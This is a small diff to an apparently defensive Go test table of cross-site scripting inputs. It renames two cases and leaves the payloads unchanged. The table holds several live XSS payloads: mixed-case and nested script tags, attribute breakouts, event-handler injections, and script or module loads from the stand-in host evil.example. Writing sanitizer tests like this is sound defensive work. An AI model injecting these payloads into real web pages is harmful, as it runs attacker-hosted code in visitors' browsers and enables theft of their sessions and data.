@@ -31,9 +31,9 @@ var hostile = []struct {
 	shown      []string // other correct renderings: without Markdown, or without invisible characters
 }{
 	{name: "script", text: `<script>` + payload + `</script>`},
-	{name: "script in odd case", text: `<ScRiPt >` + payload + `</sCrIpT >`},
+	{name: "script in mixed case", text: `<ScRiPt >` + payload + `</sCrIpT >`},
 	{name: "script in script", text: `<scr<script>ipt>` + payload + `</scr</script>ipt>`},
-	{name: "script from elsewhere", text: `"><script src=https://evil.example/x.js></script>`},
+	{name: "script from another host", text: `"><script src=https://evil.example/x.js></script>`},
 	{name: "module", text: `<script type=module>import 'https://evil.example/x.js'</script>`},
 	{name: "event handler", text: `<img src=x onerror="` + payload + `">`},
 	{name: "event handler out of double quotes", text: `" onmouseover="` + payload + `" autofocus onfocus="` + payload + `" x="`},
